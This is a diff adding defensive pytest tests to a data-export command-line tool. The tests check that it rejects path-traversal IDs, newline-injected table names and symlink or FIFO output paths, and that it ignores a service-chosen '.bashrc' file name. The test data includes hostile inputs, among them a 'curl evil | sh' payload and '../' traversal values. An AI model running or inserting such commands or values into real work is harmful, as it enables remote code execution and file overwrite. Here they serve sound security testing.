@@ -9,6 +9,7 @@ reached the service.
 from __future__ import annotations
 
 import os
+import stat
 import subprocess
 import sys
 import threading
@@ -204,3 +205,87 @@ def test_bad_input_to_load_is_one_line_with_exit_code_2(tmp_path: Path) -> None:
                        url, home=tmp_path), 2)
     assert key == "uci-exhaust: error: private: no such file 'u.zip'"
     assert table_state(tmp_path / "w.db") == before
+
+
+# -- names and files the command line must not trust ---------------------------------------------------------
+
+def test_a_conversation_id_that_is_not_a_uuid_is_refused_naming_its_flag(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path}/w.db"
+    line = one_line(uci("load", "--response", str(TARA_RESPONSE), "--warehouse", url, "--conversation-id",
+                        "../../../outside/pwned", home=tmp_path), 2)
+    assert line.startswith("uci-exhaust: error: --conversation-id: must be a UUID")
+    assert not (tmp_path / "w.db").exists()
+    submitted = one_line(uci("submit", "--conversation-id", "../escaped", "--dataset", "response", "--from-date",
+                             "2026-03-01", "--to-date", "2026-03-01", home=tmp_path, url="http://127.0.0.1:9/api"), 2)
+    assert submitted.startswith("uci-exhaust: error: --conversation-id: must be a UUID")
+
+
+def test_a_table_name_with_a_trailing_line_end_is_refused(tmp_path: Path) -> None:
+    line = one_line(uci("load", "--response", str(TARA_RESPONSE), "--warehouse", f"sqlite:///{tmp_path}/w.db",
+                        "--table", "uci_responses_users\n", home=tmp_path), 2)
+    assert line.startswith("uci-exhaust: error: table: must be a plain identifier")
+
+
+def _node(kind: str, path: Path, target: Path) -> None:
+    if kind == "fifo":
+        os.mkfifo(path)
+    elif kind == "symlink to a file":
+        path.symlink_to(target)
+    elif kind == "symlink to stdout":
+        path.symlink_to("/proc/self/fd/1")
+    elif kind == "folder":
+        path.mkdir()
+    else:  # a character device like /dev/null (1, 3), made here: the system's own is never put at risk
+        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
+
+
+@pytest.mark.parametrize("kind", ["fifo", "symlink to a file", "symlink to stdout", "folder",
+                                  pytest.param("device", marks=pytest.mark.skipif(
+                                      os.geteuid() != 0, reason="only root makes device nodes"))])
+def test_report_out_that_is_not_a_regular_file_is_refused_and_leaves_nothing(kind: str, tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path}/w.db"
+    load_exhaust(response_csv=TARA_RESPONSE, private=TARA_PRIVATE, warehouse_url=url)
+    target = tmp_path / "kept.txt"
+    target.write_text("kept\n")
+    out = tmp_path / "pages" / "report.html"
+    out.parent.mkdir()
+    _node(kind, out, target)
+    before = os.lstat(out)
+
+    line = one_line(uci("report", "--warehouse", url, "--out", str(out), home=tmp_path), 2)
+
+    assert line.startswith(f"uci-exhaust: error: --out: '{out}' is ")
+    after = os.lstat(out)
+    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
+    assert target.read_text() == "kept\n"
+    assert sorted(path.name for path in out.parent.iterdir()) == ["report.html"], "no .partial left behind"
+
+
+def test_a_report_is_private(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path}/w.db"
+    load_exhaust(response_csv=TARA_RESPONSE, private=TARA_PRIVATE, warehouse_url=url)
+    out = tmp_path / "made" / "report.html"
+    done = uci("report", "--warehouse", url, "--out", str(out), home=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and stat.S_IMODE(out.parent.stat().st_mode) == 0o700
+
+
+def test_download_saves_under_fixed_names_not_those_the_service_chose(emulator: Emulator, tmp_path: Path) -> None:
+    from tests.support.api import ExhaustApi, new_tag, submit_body
+
+    tag = new_tag()
+    answer = ExhaustApi(emulator.api).submit(submit_body(tag))
+    assert answer.status_code == 200, answer.text
+    request_id = answer.json()["result"]["requestId"]
+    requests.post(f"{emulator.root}/admin/jobs/{request_id}/file", params={"tag": f"{tag}:dev-channel",
+                  "name": ".bashrc"}, data=b"curl evil | sh\n", timeout=60).raise_for_status()
+    out = tmp_path / "home"
+    out.mkdir()
+    (out / ".bashrc").write_text("# mine\n")
+
+    done = uci("download", "--tag", tag, "--request-id", request_id, "--out", str(out), home=tmp_path,
+               url=emulator.api)
+
+    assert done.returncode == 0, done.stderr
+    assert (out / ".bashrc").read_text() == "# mine\n"
+    assert (out / "uci-response-exhaust.csv").read_bytes() == b"curl evil | sh\n"
